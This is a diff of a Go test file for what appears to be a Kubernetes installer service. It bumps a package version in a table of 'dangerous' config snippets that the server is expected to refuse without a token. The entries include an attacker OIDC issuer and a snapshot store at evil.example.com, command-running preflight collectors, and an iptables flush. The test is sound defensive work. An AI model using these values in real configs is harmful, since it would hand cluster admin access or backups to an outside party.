@@ -102,7 +102,7 @@ var dangerous = map[string]string{
 	"hostPreflights: checks from elsewhere":              "  kurl: {hostPreflights: {spec: {uri: 'http://x'}}}\n",
 	"hostPreflights: remote collectors":                  "  kurl: {hostPreflights: {spec: {remoteCollectors: [{run: {}}]}}}\n",
 	"hostPreflights: text":                               "  kurl: {hostPreflights: 'spec: {collectors: [{run: {command: id}}]}'}\n",
-	"kubernetes.oidc: an issuer of the attacker's":       "  kubernetes: {version: '1.0', oidc: {issuers: [{url: 'https://evil.example.com', audiences: [x]}], admins: ['oidc:x']}}\n",
+	"kubernetes.oidc: an issuer of the attacker's":       "  kubernetes: {version: 1.36.3, oidc: {issuers: [{url: 'https://evil.example.com', audiences: [x]}], admins: ['oidc:x']}}\n",
 	"snapshots.store: a server of the attacker's":        "  snapshots: {key: age1x, store: 's3://b?endpoint=https://evil.example.com'}\n",
 	"iptablesConfig.iptablesCmds: a command":             "  iptablesConfig: {iptablesCmds: [[-F]]}\n",
 	"selinuxConfig.chconCmds: a command":                 "  selinuxConfig: {chconCmds: [[-t, x, /etc]]}\n",
@@ -113,8 +113,8 @@ var dangerous = map[string]string{
 
 func TestInstallerWithCommandsNeedsToken(t *testing.T) {
 	packages := filled(t)
-	for _, name := range []string{"containerd", "kubernetes"} {
-		put(t, packages, name+"-1.0.tar.gz", pack(t, name, "1.0", map[string]string{"Manifest": "", "install.sh": ""}))
+	for name, version := range map[string]string{"containerd": "1.0", "kubernetes": "1.36.3"} {
+		put(t, packages, name+"-"+version+".tar.gz", pack(t, name, version, map[string]string{"Manifest": "", "install.sh": ""}))
 	}
 	front := serve(t, packages, nil)
 	without := serve(t, packages, func(o *server.Options) { o.Token = "" })
